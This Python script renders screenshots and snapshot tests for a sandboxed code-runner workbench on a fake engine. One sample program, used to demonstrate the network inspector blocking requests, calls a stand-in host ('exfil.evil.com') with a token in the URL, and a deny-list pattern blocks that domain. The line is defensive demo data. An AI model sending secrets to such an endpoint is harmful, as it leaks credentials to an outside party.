"""Screenshots of the workbench's main views, from the real app on the fake engine.

    .venv/bin/python tests/tui/scenes.py [OUTPUT_DIR]     # default: the repository's screenshots/

The same scenes drive the snapshot tests (tests/tui/test_snapshots.py), so what the README shows is
what the tests check. Everything in them is deterministic: the fake engine's clock is virtual, the
cursor does not blink, animations are off and no file watcher runs.
"""

from __future__ import annotations

import asyncio
import os
import re
import sys
import tempfile
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fake_engine import FakeBackend
from textual.pilot import Pilot

from engine.config import TuiSettings
from isol8_tui.app import WorkbenchApp, make_app
from isol8_tui.bridge import SessionSpec
from isol8_tui.screens.main import MainScreen
from isol8_tui.screens.terminal import TerminalScreen

HELLO = """\
import platform

print("hello from isol8")
print("every run starts in a hardened container")
"""

TRAINING = """\
import sys
import time

print("epoch 1/4  loss=0.912  acc=0.61")
print("epoch 2/4  loss=0.604  acc=0.74")
print("epoch 3/4  loss=0.388  acc=0.83")
print("checkpoint saved to /sandbox/model.pt", file=sys.stderr)
while True:
    time.sleep(1)
"""

FAILING = """\
import json
import sys

settings = json.loads('{"retries": 3}')
print("loaded settings")
print("connecting to the queue")
print("retrying in 2 s", file=sys.stderr)
raise KeyError("timeout")
"""

FETCHING = """\
from urllib.request import urlopen

print(urlopen("https://pypi.org/simple/requests/").status)
print(urlopen("https://files.pythonhosted.org/packages/requests.whl").status)
print(urlopen("http://api.github.com/repos/python/cpython").status)
print(urlopen("http://exfil.evil.com/upload?token=s3cr3t").status)
print(urlopen("https://pypi.org/simple/six/").status)
"""

WRITING = """\
import csv

open("/sandbox/report.csv", "w").write("city,temp\\nLisbon,21\\nOslo,4\\n")
open("/sandbox/out/summary.txt", "w").write("2 cities")
print("wrote report.csv and out/summary.txt")
"""

ASKING = """\
print("\\033[1;36mbuild 2 of 3\\033[0m: \\033[32mok\\033[0m")
print("\\033[33mwarning\\033[0m: the cache is cold")
print("got", input("deploy to production? [y/N] "))
"""

ANALYSIS = """\
import pandas as pd
import matplotlib.pyplot as plt

df = pd.DataFrame({"city": ["Lisbon", "Oslo", "Nairobi"], "temp": [21, 4, 25]})
print("3 cities loaded")
plt.bar(df["city"], df["temp"])
df
"""

SCREENSHOTS = Path(__file__).resolve().parents[2] / "screenshots"

FILTERED = SessionSpec("python", "filtered", (r"(.*\.)?pypi\.org", r"files\.pythonhosted\.org"), (r".*\.evil\.com",))
STATEFUL = SessionSpec("python", stateful=True)


@dataclass
class Scene:
    """One view: the file the app opens, its size, and what to do before the picture."""

    name: str
    title: str
    code: str
    drive: Callable[[Pilot[Any]], Awaitable[None]]
    size: tuple[int, int] = (150, 36)
    filename: str = "main.py"
    app_options: dict[str, Any] = field(default_factory=dict)
    screenshot: bool = True  # also a README screenshot (the size variants are snapshots only)


def main_screen(pilot: Pilot[Any]) -> MainScreen:
    screen = pilot.app.screen_stack[0]
    assert isinstance(screen, MainScreen)
    return screen


async def started(pilot: Pilot[Any]) -> MainScreen:
    """The main screen once it has started and its first session is warm (so every scene begins in
    the same state, whatever the order in which the background checks finish)."""
    warming = ("new", "starting")
    for _ in range(1000):
        if pilot.app.screen_stack and isinstance(pilot.app.screen_stack[0], MainScreen):
            screen = pilot.app.screen_stack[0]
            first = next((s for s in screen.bridge.sessions.values() if not s.scratch), None)
            if screen.started and screen.docker_available and first is not None and first.state not in warming:
                return screen
        await pilot.pause(0.01)
    raise RuntimeError("the workbench did not start")


async def settle(pilot: Pilot[Any], until: Callable[[], bool] | None = None, rounds: int = 200) -> None:
    """Let workers and messages run until `until()` (or everything is quiet)."""
    await started(pilot)
    for _ in range(rounds if until is not None else 3):
        await pilot.pause()
        if until is not None and until():
            break
    await pilot.pause()
    main_screen(pilot).outputs.flush()
    await pilot.pause()
    pilot.app.clear_notifications()
    await pilot.pause()


async def run_to_end(pilot: Pilot[Any]) -> None:
    screen = await started(pilot)
    await pilot.press("ctrl+r")
    await settle(pilot, lambda: screen.current_run is None and screen.run_status.state != "idle")


async def empty(pilot: Pilot[Any]) -> None:
    await settle(pilot)


async def running(pilot: Pilot[Any]) -> None:
    screen = await started(pilot)
    await pilot.press("ctrl+r")
    engine = screen.selected.engine if screen.selected else None
    await settle(pilot, lambda: bool(getattr(engine, "holding", False)))

    def shown() -> bool:  # the output messages the run posted before it held may still be on their way
        screen.outputs.flush()
        panes = (screen.outputs.stdout, screen.outputs.stderr)
        return all(any(line.strip() for line in pane.lines) for pane in panes)

    await settle(pilot, shown)
    screen._tick_status()  # the elapsed time as of now (the run waits in its loop: the clock stands still)
    await pilot.pause()


async def failed(pilot: Pilot[Any]) -> None:
    await run_to_end(pilot)


async def network(pilot: Pilot[Any]) -> None:
    screen = await started(pilot)
    screen.create_session(FILTERED)
    await run_to_end(pilot)
    screen.action_focus_pane("network")
    await pilot.pause()
    await pilot.press("down", "down", "down")
    await settle(pilot)


async def results(pilot: Pilot[Any]) -> None:
    """A stateful session's run: its table and its figure under the output (images as their line)."""
    screen = await started(pilot)
    screen.create_session(STATEFUL)
    await run_to_end(pilot)
    await settle(pilot, lambda: screen.result_pane.count == 2)


async def session_dialog(pilot: Pilot[Any]) -> None:
    await settle(pilot)
    await pilot.press("ctrl+n")
    await pilot.pause()
    await pilot.click("#ns-net-filtered")
    await pilot.pause()
    await pilot.click("#ns-whitelist")
    await pilot.press(*r"(.*\.)?pypi\.org, files\.pythonhosted\.org")
    await pilot.click("#ns-blacklist")
    await pilot.press(*r".*\.evil\.com")
    await settle(pilot)


async def help_screen(pilot: Pilot[Any]) -> None:
    await settle(pilot)
    await pilot.press("f1")
    await settle(pilot)


async def searched(pilot: Pilot[Any]) -> None:
    screen = await started(pilot)
    await run_to_end(pilot)
    screen.action_focus_pane("output")
    await pilot.press("slash", *"loss=0.6", "enter")
    await settle(pilot)


async def jump(pilot: Pilot[Any]) -> None:
    await settle(pilot)
    await pilot.press("ctrl+g")
    await pilot.pause()


async def files(pilot: Pilot[Any]) -> None:
    screen = await started(pilot)
    await run_to_end(pilot)
    screen.action_focus_pane("files")
    await settle(pilot, lambda: bool(screen.files.entries))


async def interactive(pilot: Pilot[Any]) -> None:
    """An interactive run waiting at its prompt, an answer half typed."""
    await started(pilot)
    await pilot.press("shift+f5")

    def shows(end: str) -> bool:
        screen = pilot.app.screen
        return isinstance(screen, TerminalScreen) and screen.run.text.plain()[-1].endswith(end)

    await settle(pilot, lambda: shows("[y/N] "))
    await pilot.press("y", "e")
    await settle(pilot, lambda: shows("ye"))


SCENES: list[Scene] = [
    Scene("empty", "Just opened: the file, the session that runs it, Docker and the pool", HELLO, empty),
    Scene("running", "A run in flight: output streams in live; Stop cancels it", TRAINING, running),
    Scene("error", "Finished with an error: exit code, duration, stderr apart", FAILING, failed),
    Scene("network", "Network inspector: a filtered session's requests, blocked ones in red", FETCHING, network),
    Scene("session-dialog", "New session: runtime and network policy with allow and deny lists", HELLO, session_dialog),
    Scene("help", "F1: the focused pane's keys, then the global ones", HELLO, help_screen),
    Scene("files", "Files: the session's /sandbox, with upload and download", WRITING, files),
    Scene("narrow", "At 80x24: the editor above the results, sessions on f2", FAILING, failed, size=(80, 24)),
    Scene(
        "search",
        "Output search: / finds, n and N step through the matches",
        TRAINING.replace("while True:\n    time.sleep(1)\n", ""),
        searched,
    ),
    Scene("jump", "Jump mode (ctrl+g): the letter on a pane focuses it", HELLO, jump),
    Scene("results", "A stateful session's results: a DataFrame as a table, a figure as an image", ANALYSIS, results),
]
SIZES: tuple[tuple[int, int], ...] = ((80, 24), (120, 35), (160, 45), (200, 50))
"""The terminal sizes every view is checked at."""
SCENES += [
    Scene(f"{name}-{width}x{height}", f"{name} at {width}x{height}", code, drive, (width, height), screenshot=False)
    for width, height in SIZES
    for name, drive, code in (
        ("running", running, TRAINING),
        ("network", network, FETCHING),
        ("help", help_screen, HELLO),
        ("jump", jump, HELLO),
        ("results", results, ANALYSIS),
    )
]
SCENES.append(
    Scene("terminal-80x24", "An interactive run's terminal at 80x24", ASKING, interactive, (80, 24), screenshot=False)
)


def build_app(scene: Scene, folder: Path, backend: FakeBackend | None = None) -> WorkbenchApp:
    """The scene's app on the fake engine, with its file written into `folder` (the working directory)."""
    path = folder / scene.filename
    path.write_text(scene.code, encoding="utf-8")
    options: dict[str, Any] = {
        "watch": False,
        "cursor_blink": False,
        "animations": False,
        "settings": TuiSettings(images=False),  # images as their line: the same picture in every terminal
        **scene.app_options,
    }
    return make_app(Path(scene.filename), backend=backend or FakeBackend(), **options)


def normalize_svg(svg: str) -> str:
    """Drop the per-render ids so regenerating unchanged views changes no file."""
    return re.sub(r"\bterminal-\d+-", "terminal-", svg)


async def capture(scene: Scene, folder: Path) -> str:
    app = build_app(scene, folder)
    async with app.run_test(size=scene.size, notifications=True) as pilot:
        await scene.drive(pilot)
        return normalize_svg(app.export_screenshot(title=f"isol8 workbench · {scene.title}"))


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    output = Path(args[0]).resolve() if args else SCREENSHOTS
    output.mkdir(parents=True, exist_ok=True)
    here = Path.cwd()
    for scene in SCENES:
        if not scene.screenshot:
            continue
        with tempfile.TemporaryDirectory(prefix="isol8-screens-") as tmp:  # a folder each: no project file shared
            os.chdir(tmp)
            try:
                svg = asyncio.run(capture(scene, Path(tmp)))
            finally:
                os.chdir(here)
        (output / f"{scene.name}.svg").write_text(svg, encoding="utf-8")
        print(f"{output / scene.name}.svg  {scene.title}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
